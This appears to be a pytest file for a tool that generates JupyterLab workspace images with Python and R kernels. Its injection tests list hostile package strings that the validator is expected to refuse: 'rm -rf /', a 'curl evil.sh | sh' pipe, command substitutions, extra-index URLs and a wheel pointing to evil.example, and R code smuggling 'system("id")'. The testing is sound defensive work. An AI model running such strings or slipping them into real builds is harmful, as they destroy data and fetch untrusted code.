"""The workspace image definition: JupyterLab with Python and R kernels, deterministic build files
named by their digest, and package names that cannot smuggle anything into the build."""

import json
import re

import pytest

from hdh_assets.workspaces.image import (
    APT_PACKAGES,
    IMAGE_NAME,
    JUPYTER_COMMAND,
    ImageDefinition,
    image_definition,
)

PYTHON = ["Polars>=2,<3", "pandas", "scikit_learn==1.5.*"]
R = ["jsonlite", "data.table", "stats"]


@pytest.fixture
def definition() -> ImageDefinition:
    return image_definition(PYTHON, R)


def test_files_are_present_and_deterministic(definition: ImageDefinition) -> None:
    files = definition.files()
    assert set(files) == {"Dockerfile", "requirements.txt", "install.R"}
    assert all(text.endswith("\n") for text in files.values())
    again = image_definition(list(reversed(PYTHON)), list(reversed(R)))
    assert again == definition
    assert again.files() == files
    assert again.digest == definition.digest


def test_fields_are_normalised_and_sorted(definition: ImageDefinition) -> None:
    assert definition.python_packages == ("pandas", "polars<3,>=2", "scikit-learn==1.5.*")
    assert definition.r_packages == ("data.table", "jsonlite", "stats")
    merged = image_definition(
        ["polars>=2", "POLARS<3", "Requests[socks]", "requests[Security]"], []
    )
    assert merged.python_packages == ("polars<3,>=2", "requests[security,socks]")
    assert image_definition([], ["jsonlite", "jsonlite"]).r_packages == ("jsonlite",)


def test_dockerfile_runs_r_inside_jupyterlab(definition: ImageDefinition) -> None:
    dockerfile = definition.files()["Dockerfile"]
    assert re.search(r"^FROM \S*bookworm\S*$", dockerfile, re.M)
    assert "apt-get install" in dockerfile
    for package in APT_PACKAGES:
        assert package in dockerfile
    assert "r-cran-irkernel" in dockerfile
    assert "pip install -r /tmp/hdh/requirements.txt" in dockerfile
    assert "Rscript /tmp/hdh/install.R" in dockerfile
    assert "IRkernel::installspec(user = FALSE)" in dockerfile
    # IRkernel registers itself through `jupyter kernelspec`: pip must have run before.
    assert dockerfile.index("pip install") < dockerfile.index("installspec")
    assert "EXPOSE 8888" in dockerfile
    cmd = re.search(r"^CMD (.+)$", dockerfile, re.M)
    assert cmd and json.loads(cmd.group(1)) == list(JUPYTER_COMMAND)
    assert JUPYTER_COMMAND[:2] == ("jupyter", "lab")
    assert {"--ip=0.0.0.0", "--port=8888", "--no-browser"} <= set(JUPYTER_COMMAND)
    assert not any("token" in arg.lower() for arg in JUPYTER_COMMAND)  # Jupyter's token stays on


def test_the_server_runs_as_a_non_root_user(definition: ImageDefinition) -> None:
    dockerfile = definition.files()["Dockerfile"]
    assert "useradd --create-home --uid 1000" in dockerfile
    users = re.findall(r"^USER (\S+)$", dockerfile, re.M)
    assert users == ["1000:1000"]  # numeric, so Kubernetes can check runAsNonRoot
    assert dockerfile.index("USER ") > dockerfile.index("installspec")
    assert dockerfile.index("USER ") < dockerfile.index("CMD ")


def test_requirements_hold_jupyter_and_the_project_packages(definition: ImageDefinition) -> None:
    lines = definition.files()["requirements.txt"].splitlines()
    packages = [line for line in lines if not line.startswith("#")]
    assert packages == [
        "ipykernel>=6.29",
        "jupyterhub<7,>=6.1",
        "jupyterlab>=4.4",
        "pandas",
        "polars<3,>=2",
        "scikit-learn==1.5.*",
    ]
    pinned = image_definition(["JupyterLab==4.4.1"], [])
    assert pinned.python_packages == ("jupyterlab==4.4.1",)
    assert "jupyterlab==4.4.1,>=4.4" in pinned.files()["requirements.txt"].splitlines()
    bare = image_definition([], []).files()["requirements.txt"].splitlines()
    assert [line for line in bare if not line.startswith("#")] == [
        "ipykernel>=6.29",
        "jupyterhub<7,>=6.1",
        "jupyterlab>=4.4",
    ]


def test_rstudio_adds_its_server_and_the_jupyter_proxy(definition: ImageDefinition) -> None:
    with_rstudio = image_definition(definition.python_packages, definition.r_packages, rstudio=True)
    lines = with_rstudio.files()["requirements.txt"].splitlines()
    assert {"jupyter-rsession-proxy>=2.2", "jupyter-server-proxy>=4.4"} <= set(lines)
    dockerfile = with_rstudio.files()["Dockerfile"]
    assert "ARG RSTUDIO_SERVER_DEB_SHA256" in dockerfile and "sha256sum -c -" in dockerfile
    assert dockerfile.index("rstudio-server.deb") < dockerfile.index("USER ")  # root installs
    assert "rstudio" not in definition.files()["Dockerfile"].lower()
    assert with_rstudio.digest != definition.digest


def test_install_r_fetches_cran_packages_and_checks_all(definition: ImageDefinition) -> None:
    install_r = definition.files()["install.R"]
    assert 'Sys.getenv("CRAN_MIRROR"' in install_r
    assert 'install <- c("data.table", "jsonlite")' in install_r  # stats ships with R
    assert 'required <- c("data.table", "jsonlite", "stats")' in install_r
    assert "stop(" in install_r
    assert "ARG CRAN_MIRROR=" in definition.files()["Dockerfile"]
    assert "r-base-dev" in definition.files()["Dockerfile"]
    base_only = image_definition([], ["stats"]).files()
    assert "install <- character(0)" in base_only["install.R"]
    assert "r-base-dev" not in base_only["Dockerfile"]  # nothing to compile


def test_digest_follows_the_packages_only(definition: ImageDefinition) -> None:
    assert re.fullmatch(r"[0-9a-f]{12}", definition.digest)
    assert image_definition(["polars<3,>=2", "PANDAS", "scikit-learn==1.5.*"], R).digest == (
        definition.digest
    )
    digests = {
        definition.digest,
        image_definition([*PYTHON, "numpy"], R).digest,
        image_definition(["Polars>=2,<4", "pandas", "scikit_learn==1.5.*"], R).digest,
        image_definition(PYTHON, [*R, "ggplot2"]).digest,
        image_definition(PYTHON, ["jsonlite", "data.table"]).digest,
        image_definition([], []).digest,
    }
    assert len(digests) == 6


def test_reference_names_the_image_by_its_digest(definition: ImageDefinition) -> None:
    reference = definition.reference("registry.hdh.local:5000/")
    assert reference == f"registry.hdh.local:5000/{IMAGE_NAME}:{definition.digest}"
    assert reference.startswith("registry.hdh.local:5000/hdh/jupyter-workspace:")
    for bad in ("", "  ", "registry with space"):
        with pytest.raises(ValueError, match="registry"):
            definition.reference(bad)


@pytest.mark.parametrize(
    ("requirement", "reason"),
    [
        ("pandas; rm -rf /", "not allowed"),
        ("pandas && curl evil.sh | sh", "not allowed"),
        ("$(reboot)", "not allowed"),
        ("`id`", "not allowed"),
        ("pandas\n--extra-index-url https://evil.example/simple", "not allowed"),
        ("--index-url=https://evil.example/simple", "not allowed"),
        ("--pre", "not a valid requirement"),
        ("-e .", "not a valid requirement"),
        ("-r other.txt", "not a valid requirement"),
        ("evil @ https://evil.example/evil.whl", "direct URL"),
        ("https://evil.example/evil.whl", "not allowed"),
        ("pandas>=2 ; python_version > '3'", "not allowed"),
        ("pandas>>2", "not a valid requirement"),
        ("", "empty"),
    ],
)
def test_python_injection_is_refused(requirement: str, reason: str) -> None:
    with pytest.raises(ValueError, match=reason) as raised:
        image_definition([requirement], [])
    assert "Python package" in str(raised.value)
    assert repr(requirement) in str(raised.value)  # the message names the package


@pytest.mark.parametrize(
    "name",
    [
        'jsonlite"); system("id"); ("',
        "jsonlite; rm -rf /",
        "$(id)",
        "data table",
        "1abc",
        "abc.",
        "x",
        "ggplot2\n",
        "../etc",
        "",
    ],
)
def test_r_injection_is_refused(name: str) -> None:
    with pytest.raises(ValueError, match=r"R package .* refused: a CRAN name") as raised:
        image_definition([], [name])
    assert repr(name) in str(raised.value)


def test_a_bare_string_is_not_a_package_list() -> None:
    with pytest.raises(TypeError, match="sequence of strings"):
        image_definition("pandas", [])
    with pytest.raises(TypeError, match="must hold strings"):
        image_definition([], [b"jsonlite"])  # type: ignore[list-item]


def test_direct_construction_is_validated_too() -> None:
    assert ImageDefinition(("Pandas",), ("stats",)).python_packages == ("pandas",)
    with pytest.raises(ValueError, match="R package"):
        ImageDefinition((), ('x"); q("no',))
